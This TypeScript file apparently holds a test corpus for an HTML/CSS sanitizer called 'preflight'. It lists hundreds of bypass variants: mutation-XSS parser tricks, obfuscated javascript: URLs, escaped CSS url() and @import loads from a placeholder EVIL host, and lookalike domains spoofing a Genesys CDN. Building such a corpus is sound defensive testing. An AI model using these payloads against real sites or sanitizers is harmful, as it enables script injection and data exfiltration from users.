import type { Family } from './card.ts';

const SHEETS = [
  '@function --f(){result:"//EVIL/a"}p{background:image-set(--f() 1x)}', '@function --f(--x:"//EVIL/a"){result:var(--x)}p{background:image-set(--f() 1x)}', '@function --f(--x){result:var(--x)}p{background:image-set(--f({"//EVIL/a"}) 1x)}',
  '@property --a{syntax:"<string>";inherits:true;initial-value:"//EVIL/a"}p{background:image-set(var(--a) 1x)}', '@property --a{syntax:"*";inherits:true;initial-value:"//EVIL/a"}p{background:image-set(var(--a) 1x)}', ':root{--a:"/\\9 /EVIL/a"}p{background:image-set(var(--a) 1x)}',
  ':root{--a:"\\1 //EVIL/a"}p{background:image-set(var(--a) 1x)}', 'p{background:image-set(if(style(--zz:1):"/ok.png"; else:"//EVIL/b") 1x)}', 'p{background:image-set(if(supports(color:blurb): "/ok"; else: "//EVIL/b") 1x)}', 'p{background:\\75 \\72 \\6c(//EVIL/a)}',
  'p{background:\\000075rl(//EVIL/a)}', 'p{background:u\\52l(//EVIL/a)}', 'p{background:-webkit-image-set("//EVIL/a" 1x)}', 'p{-webkit-mask-image:url(//EVIL/a)}', 'p{-webkit-border-image:url(//EVIL/a) 1}', 'li{list-style-image:image-set("//EVIL/a")}',
  '@import url( "//EVIL/a.css" ) layer(a) scope((p)) supports(display:block) all;', `@import'//EVIL/a.css'`, `@import\\ '//EVIL/x';@import '//EVIL/a.css'`, '@import url(//EVIL/a.css) not all;', '/*\n*/@import "//EVIL/a.css"',
  '@container (width>0){p{background:url(//EVIL/a)}}body{container-type:inline-size}', '@media not print{@supports (a:b) or (display:block){p{background:url(//EVIL/a)}}}', 'p{color:red;&{background:url(//EVIL/a)}}', 'body{p{background:url(//EVIL/a)}}',
  ':root{--h:"//EVIL";}p{background:image-set(var(--h) 1x)}', '@font-face{font-family:x;src:url(//EVIL/a.woff) format("woff"),local(y)}p{font-family:x}', '@font-face{font-family:x;src:url("//EVIL/a.woff") tech(variations)}p{font-family:x}',
  '@font-face{font-family:x;unicode-range:U+61;src:url(//EVIL/a.woff)}p{font-family:x}', '@keyframes k{from{background:url(//EVIL/a)}to{background:url(//EVIL/b)}}p{animation:k 9s}', 'p{background:url(//EVIL/a', 'p{background:url("//EVIL/a', 'p{background:image-set("//EVIL/a"',
  'p{background:url(x"y) ;background:url(//EVIL/a)}', '<!-- -->p{background:url(//EVIL/a)}', '@foo{}p{background:url(//EVIL/a)}', '@foo bar;p{background:url(//EVIL/a)}', 'p{x:\\}background:url(//EVIL/a)} p{background:url(//EVIL/b)}', 'p{background:url(//EVIL/a\\)b)}',
  'p{background:url(//EVIL/a\\\n)} p{background:url(//EVIL/b)}', 'p{filter:url(//EVIL/f.svg#x)}', 'html{background:url(//EVIL/a)}', `p{background:url('/\\9 /EVIL/a')}`, 'p{background:url(/\\a /EVIL/a)}', 'p{background:url(//EVIL/#)}', 'p{background:url(#//EVIL/a),url(//EVIL/b)}',
  'p{background:random-item(auto,url(//EVIL/a))} p{background:url(//EVIL/b)}', 'input[value^="a"]{background:url(//EVIL/a)}p:has(>b){}p:not(:empty){background:url(//EVIL/b)}',
];

const HOSTS = [
  'https://cdn.genesyscl\u043eud.com/a.js', 'https://xn--cdn-genesyscloud.EVIL/a.js', 'https://c\u200bdn.genesyscloud.com.EVIL/a.js', '//cdn.genesyscloud.com\t@EVIL/a.js', '//EVIL\\cdn.genesyscloud.com/a.js', 'https://EVIL:0443/a.js', 'https://EVIL\\.cdn.genesyscloud.com/a.js',
  'https://EVIL&#35;.cdn.genesyscloud.com/a.js', 'https://\uff45vil.EVIL/a.js', 'https:/EVIL/a.js', 'HTTPS:\\EVIL/a.js', '/\t/EVIL/a.js', '/&NewLine;/EVIL/a.js', '//EVIL:80/a.js', '\u0001//EVIL/a.js', 'wss://EVIL/a.js', 'ftp://EVIL/a.js', 'about:blank#EVIL/a.js',
];

/** Variations of what the families hold: found by turning every rule of preflight against itself. */
export const VARIATIONS: readonly Family[] = [
  { family: 'css', cards: [
    ...SHEETS.map((sheet) => `<style>${sheet}</style><p>a</p>`),
    '<p style="background:\\75&#13;&#10;rl(//EVIL/a)">a</p>', '<p style="background:\\75&#10;rl(//EVIL/a)">a</p>', '<p style="--a:&quot;//EVIL/a&quot;;background:image-set(var(--a))">a</p>', '<p style="{};background:url(//EVIL/a)">a</p>', '<p style="a{};background:url(//EVIL/a)">a</p>',
    '<p style="@import url(//EVIL/x);background:url(//EVIL/a)">a</p>', '<p style="x:&#92;&#59;;background:url(//EVIL/a)">a</p>', '<p style="&:hover{};background:url(//EVIL/a)">a</p>', '<p STYLE=background:url(//EVIL/a)>a</p>',
    `<p style="background:image-set(if(style(--zz:1):'/ok';else:'//EVIL/a'))">a</p>`, '<svg><style>p{background:&#117;rl(//EVIL/a)}</style></svg><p>a</p>', '<svg><style><a/>@import "//EVIL/a.css";</style></svg>', '<style media="(min-width:1px)">@import "//EVIL/a.css";</style>',
    '<style>\u00a0@import "//EVIL/a.css"</style><style>p{background:url(//EVIL/b)}</style><p>a', '<svg><rect width="9" height="9" fill="\\75rl(//EVIL/a.svg#a)"/></svg>', `<svg><rect width="9" height="9" mask="url('//EVIL/a.svg#a')"/></svg>`, '<svg><text cursor="url(//EVIL/a),auto">a</text></svg>',
    '<svg><g filter="url(//EVIL/a.svg#a) blur(1px)"><rect width="9" height="9"/></g></svg>', '<svg><path d="M0 0h9" marker-mid="url(//EVIL/a.svg#a)"/></svg>', '<svg><rect width="9" height="9"><animate attributeName="filter" values="none;url(//EVIL/a.svg#a)" dur="20ms" fill="freeze"/></rect></svg>',
    '<svg><rect width="9" height="9"><set attributeName="cursor" to="url(//EVIL/a),auto"/></rect></svg>', '<svg><image width="9" height="9" href="/ok.png"><animate attributeName="href" from="/ok.png" to="https://EVIL/a.png" dur="1s"/></image></svg>',
    '<svg><use><set attributeName="href" to="https://EVIL/a.svg#a"/></use></svg>', '<svg><filter id="f"><feImage><set attributeName="href" to="https://EVIL/a.png"/></feImage></filter><rect width="9" height="9" filter="url(#f)"/></svg>',
    '<svg><image id="i" width="9" height="9"/><set href="#i" attributeName="href" to="https://EVIL/a.png"/></svg>',
  ] },
  { family: 'address', cards: HOSTS.map((url) => `<script src="${url}"></script>`) },
  { family: 'resource', cards: [
    '<img src="https://card.invalid/EVIL">', '<img src="//card.invalid/EVIL">', '<script src="//card.invalid/EVIL.js"></script>', '<img sizes="1px" srcset="https://EVIL/a.png 1w">', '<img src="https://EVIL/a.png" fetchpriority=high crossorigin=use-credentials>',
    '<video><track src="https://EVIL/a.vtt" default></video>', '<audio><source src="https://EVIL/a.mp3"></audio>', '<video poster="\t//EVIL/a"></video>', '<svg><feImage href="//EVIL/a"/></svg>', '<svg><use href="//EVIL/a#b"/></svg>',
    '<svg><use href="data:image/svg+xml,&lt;svg id=a xmlns=http://www.w3.org/2000/svg onload=MARK>#a"/></svg>', '<svg><script href="data:text/javascript,MARK"></script></svg>', '<svg><script xlink:href="//EVIL/a.js"/></svg>', '<area href="/ok" ping="//EVIL/a">', '<a href="/ok" ping="  //EVIL/a">a</a>',
    '<img browsingtopics sharedstoragewritable src="https://EVIL/a">', '<object type="image/svg+xml" data="/ok.svg"><img src="//EVIL/a"></object>', '<meta http-equiv="default-style" content="x"><link rel="alternate stylesheet" title="x" href="//EVIL/a">',
    '<meta http-equiv=Refresh content="&#9;0\n;\nurl\n=\n//EVIL/a">', '<script type="speculationrules">{"prefetch":[{"source":"list","urls":["https://EVIL/a"]}]}</script>', '<script type="webbundle">{"source":"https://EVIL/a.wbn","resources":["https://EVIL/b"]}</script>',
    '<div><template shadowrootmode=closed><img src=//EVIL/a></template></div>',
  ] },
  { family: 'parser', cards: [
    '<math><annotation-xml encoding=" text/html"><style><img src="x:" onerror="MARK"></style></annotation-xml></math>', '<math><annotation-xml encoding="text/xml"><style><img src="x:" onerror="MARK"></style></annotation-xml></math>',
    '<svg><desc><style>a</style><svg><style><img src="x:" onerror="MARK"></style></svg></desc></svg>', '<math><malignmark></mglyph><style><img src="x:" onerror="MARK"></style></math>', '<math><mtext><mglyph><style><img src="x:" onerror="MARK"></style></mglyph></mtext></math>',
    '<math><mtext><malignmark><style><img src="x:" onerror="MARK"></style>', '<svg><foreignObject><math><style><img src="x:" onerror="MARK"></style></math></foreignObject></svg>', '<svg><font><style><img src="x:" onerror="MARK"></style></font></svg>',
    '<svg></br><style><p title="</style><img src=x: onerror=MARK>">', '<svg><b><style>a</style></b><img src="x:" onerror="MARK"></svg>', '<table><tr><td><form><tr><img src="x:" onerror="MARK">', '<table><style>a</style><script>MARK</script></table>',
    '<table><input type=hidden onclick=MARK><input type=HIDDEN  onfocus=MARK autofocus></table>', '<table><svg><desc><td><img src="x:" onerror="MARK"></td></desc></svg></table>', '<table><caption><svg><title><table><tr><td><img src="x:" onerror="MARK">',
    '<table><template><tr><td><img src="x:" onerror="MARK"></template></table><div><template shadowrootmode=open><table><tr><img src="x:" onerror="MARK">', '<select><input onfocus=MARK autofocus></select>',
    '<select><button><selectedcontent><img src="x:" onerror="MARK"></selectedcontent></button><option>a</select>', '<select><svg><style><img src="x:" onerror="MARK"></style></svg></select>', '<select><template><script>MARK</script></template><script>MARK</script></select>',
    '<select><math><mtext><img src="x:" onerror="MARK">', '<select><optgroup><legend><img src="x:" onerror="MARK"></legend></optgroup></select>', '<select><hr><img src="x:" onerror="MARK">', '<select><table><tr><td><img src="x:" onerror="MARK"></table></select>',
    '<select><a href="javascript:MARK">a</a></select>', '<select><noscript><p title="</noscript><img src=x: onerror=MARK>">', '<noscript><style></noscript><img src="x:" onerror="MARK"></style>', '<noscript><!--</noscript><img src="x:" onerror="MARK">-->',
    '<noscript><textarea></noscript><img src="x:" onerror="MARK"></textarea>', '<noscript><title></noscript><img src="x:" onerror="MARK"></title>', '<noscript><xmp></noscript><img src="x:" onerror="MARK"></xmp></noscript>', '<noscript><iframe></noscript><img src="x:" onerror="MARK"></iframe>',
    '<noscript><![CDATA[</noscript><img src="x:" onerror="MARK">]]>', '<noscript><template></noscript><img src="x:" onerror="MARK"></template>', '<!-- --!><img src="x:" onerror="MARK"><!-- -->', '<!---><img src="x:" onerror="MARK">-->', '<!--><img src="x:" onerror="MARK">-->',
    '<!-- -- ><img src="x:" onerror="MARK">--><!-- a --><img src="x:" onerror="MARK">', '<!-- <!-- --!><img src="x:" onerror="MARK"> -->', '<![CDATA[><img src="x:" onerror="MARK">]]>', '<svg><![CDATA[>]]><img src="x:" onerror="MARK">', '<?php "><img src="x:" onerror="MARK">" ?>',
    '<?xml-stylesheet href="https://EVIL/a.xsl" type="text/xsl"?><img src="x:" onerror="MARK">', '<?start name="a"><img src="x:" onerror="MARK"><?end>', '<?a title="><img src=x: onerror=MARK>" ?>', '</ "><img src=x: onerror=MARK>', '<script><!--<script></script><img src="x:" onerror="MARK">--></script>',
    '<script type="text/plain"><!-- <script </script><img src="x:" onerror="MARK"> --></script><img src="x:" onerror="MARK">', '<textarea></textarea x><img src="x:" onerror="MARK">', '<title></title\u000c><img src="x:" onerror="MARK">', '<xmp></xmp\n><img src="x:" onerror="MARK">',
    '<style></STYLE a=">"><img src="x:" onerror="MARK">', '<iframe></iframe ><img src="x:" onerror="MARK">', '<noembed><p></noembed><img src="x:" onerror="MARK">', '<listing>\n<img src="x:" onerror="MARK"></listing>', '<pre>\n\n<img src="x:" onerror="MARK"></pre>',
    '<textarea>\n\n</textarea><img src="x:" onerror="MARK">', '<svg><textarea><img src="x:" onerror="MARK"></textarea></svg>', '<svg><iframe><img src="x:" onerror="MARK"></iframe></svg>', '<svg><noembed><img src="x:" onerror="MARK"></noembed></svg>',
    '<math><noscript><img src="x:" onerror="MARK"></noscript></math>', '<svg><noscript><img src="x:" onerror="MARK"></noscript></svg>', '<svg><template><img src="x:" onerror="MARK"></template></svg>', '<p/onclick=MARK>a', '<p //onclick=MARK>a', '<p =onclick=MARK onclick=MARK>a',
    '<p "onclick=MARK" onclick=MARK>a', `<p a='b'onclick=MARK>a`, '<p onclick\u000c=\u000cMARK>a', '<p a=b/ onclick=MARK>a', '<p \u2028onclick=MARK>a</p><p\u2028 onclick=MARK>a', '<p onclick="MARK"onclick="">a', '<a href=javascript:MARK//>a</a>', '<a href=x href=javascript:MARK onclick=MARK>a</a>',
    '<img src=x:/onerror=MARK onerror=MARK>', `<img ''"" src=x: onerror=MARK>`, '<p onclick=&lparMARK,MARK>a', '<p onclick=MARK&semi>a', '<p a="&gt"<img src="x:" onerror="MARK">"><img src="x:" onerror="MARK">', '<svg><p><style><p title="</style><img src=x: onerror=MARK>"></p>',
    '<b><p><table><b><svg><desc></b><img src="x:" onerror="MARK">', '<a><table><a><img src="x:" onerror="MARK"></a></table></a>', '<a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><a><img src="x:" onerror="MARK">',
    '</head><body onload=MARK>', '<body/onload=MARK>', '<html/onclick=MARK x:y>', '<template><body onload=MARK></template><img src="x:" onerror="MARK">', '<col><img src="x:" onerror="MARK"><td>', '<isindex type=image src=x: onerror=MARK prompt="<img src=x: onerror=MARK>">',
    '<math><semantics><annotation-xml encoding="application/xhtml+xml" onclick=MARK><mtext><img src="x:" onerror="MARK"></semantics>', '<xss onclick=MARK tabindex=1>a</xss>', '<a<b onclick=MARK>a', '<a\u0000b onclick=MARK>a', '<script\u000b>MARK</script><p onclick=MARK>',
    '<script\u00a0>MARK</script><p onclick=MARK>',
  ] },
  { family: 'handler', cards: [
    '<div popover="auto" id="p" onbeforetoggle="MARK">a</div><button popovertarget="p">a</button>', '<button commandfor="d" command="show-modal">a</button><dialog id="d" onbeforetoggle="MARK">a</dialog>', '<details name="a" open ontoggle=MARK><summary>a</summary></details>',
    '<p contenteditable autofocus onfocus=MARK>a', '<video oncanplay=MARK src="/ok.mp4"></video>', '<audio onloadstart=MARK src="/ok.mp3"></audio>', '<video><source onerror=MARK src="x:"></video>', '<track default onerror=MARK src=x:>', '<object onerror=MARK data="x:"></object>',
    '<iframe onload=MARK></iframe>', '<style onload=MARK></style>', '<svg><style onload=MARK></style></svg>', '<svg><image href="/ok.png" onload=MARK>', '<svg><use href="#a" onload=MARK>', '<svg onload=MARK>', '<body onhashchange=MARK onload=MARK>', '<dialog oncancel=MARK open>',
    '<form oninvalid=MARK><input required oninvalid=MARK><button>a</button></form>', '<keygen autofocus onfocus=MARK>', '<x contenteditable onbeforeinput=MARK>a</x>', '<div style="overflow:scroll;height:9px" onscroll=MARK onscrollend=MARK>a<p>b<p>c</div>', '<button is="x-b" onclick=MARK>a</button>',
    '<p is=x onclick=MARK>a</p>', '<permission type=geolocation onclick=MARK>', '<applet onerror=MARK code=x>', '<menuitem onclick=MARK>a', '<img srcset="x: 1x" onerror=MARK>', '<link rel=stylesheet href="x:" onerror=MARK>', '<script src="x:" onerror=MARK></script>', '<image src=x: onerror=MARK>',
  ] },
  { family: 'javascript-url', cards: [
    '<a href="\u000bjavascript:MARK">a</a>', '<a href="\u001fjavascript:MARK">a</a>', '<a href="javascript&Tab;:MARK">a</a>', '<a href="&#xA;javascript:MARK">a</a>', '<a href="java&#13;script:MARK">a</a>', '<a href="&#0106;avascript:MARK">a</a>', '<a href="javascript://%0aMARK">a</a>',
    '<a href="javascript:"<script>MARK</script>"">a</a>', '<a href="JAVASCRIPT:MARK">a</a>', '<svg><a xlink:href="java\tscript:MARK"><text>a</text></a></svg>', '<area href="javascript:MARK">', '<a href="javascript:MARK" ping=/ok download>a</a>',
    '<a href="/ok" target="javascript:MARK" onclick="MARK">a</a>', '<input type=submit formaction=javascript:MARK form=f><form id=f></form>', '<iframe src="java\nscript:MARK"></iframe>', '<link rel=stylesheet href=javascript:MARK><p onclick=MARK>', '<a href="&#14;javascript:MARK">a</a>',
  ] },
  { family: 'encoding', cards: [
    '\ufffe<p onclick=MARK>', '<\uff53cript>MARK</\uff53cript><p onclick=MARK>', '\u0080\u0085<img src=x: onerror=MARK>', '<img\u0085src=x: onerror=MARK>', '<img\u00a0src=x: onerror=MARK><p onclick=MARK>', '<a href="java\u00adscript:MARK" onclick=MARK>a</a>',
    '+ADwAcwBjAHIAaQBwAHQAPg-MARK+ADwALwBzAGMAcgBpAHAAdAA+-', '\u2039script\u203aMARK\u2039/script\u203a', '\u3008script\u3009MARK', '\u02c2img src=x: onerror=MARK\u02c3', '\ufe64svg onload=MARK\ufe65', '<\u017fvg onload=MARK>',
  ] },
  { family: 'prefix', cards: [
    '<script x:type="text/plain">MARK</script>', '<script x:src="/ok.js">MARK</script>', '<script href="/ok.js">MARK</script>', '<script xlink:href="/ok.js">MARK</script>', '<svg><script src="/ok.js">MARK</script></svg>', '<svg><script xlink:type="text/plain">MARK</script></svg>',
    '<svg><script x:href="/ok.js">MARK</script></svg>', '<svg><script data:type="a" x:href="/ok">MARK</script></svg>', '<link x:rel="canonical" rel="stylesheet" href="https://EVIL/a.css">',
    '<link x:rel="author" rel="icon" href="https://EVIL/a.png"><link x:rel="x" rel="preload" as="image" href="https://EVIL/b.png">', '<meta x:http-equiv="a" http-equiv="refresh" content="0;https://EVIL/a">',
    '<svg><image><animate x:attributeName="x" attributeName="href" values="https://EVIL/a.png"/></image></svg>', '<svg><image width="9" height="9"><set x:attributeName="x" attributeName="href" to="https://EVIL/a.png"/></image></svg>', '<script :type="text/plain">MARK</script>',
    '<script type:="a">MARK</script>', '<script a:b:src="/ok.js">MARK</script>', '<link rel="preload" x:as="script" as="style" href="https://cdn.genesyscloud.com/EVIL.css">',
  ] },
  { family: 'link-kind', cards: [
    '<link rel="icon stylesheet" href="https://EVIL/a.css">', '<link rel="canonical stylesheet" href="https://EVIL/a.css">', '<link rel="stylesheet\u000calternate" title="a" href="https://EVIL/a.css">', '<link rel="&#115;tylesheet" href="https://EVIL/a.css">',
    '<link rel="STYLESHEET" href="/\t/EVIL/a.css">', '<link rel="preload" as="script" href="https://cdn.genesyscloud.com.EVIL/a.js">', '<link itemprop="x" rel="stylesheet" href="https://EVIL/a.css">', '<link rel="stylesheet" media="not all" href="https://EVIL/a.css">',
    '<link rel="compression-dictionary" href="https://EVIL/d">', '<link rel="modulepreload stylesheet" href="https://cdn.genesyscloud.com/EVIL.css">', '<link rel="modulepreload" as="style" href="https://cdn.genesyscloud.com/EVIL.css">',
    '<link rel="preload stylesheet" as="script" href="https://cdn.genesyscloud.com/EVIL.css">', '<link rel="stylesheet" href="https://cdn.genesyscloud.com/EVIL.css">',
  ] },
];
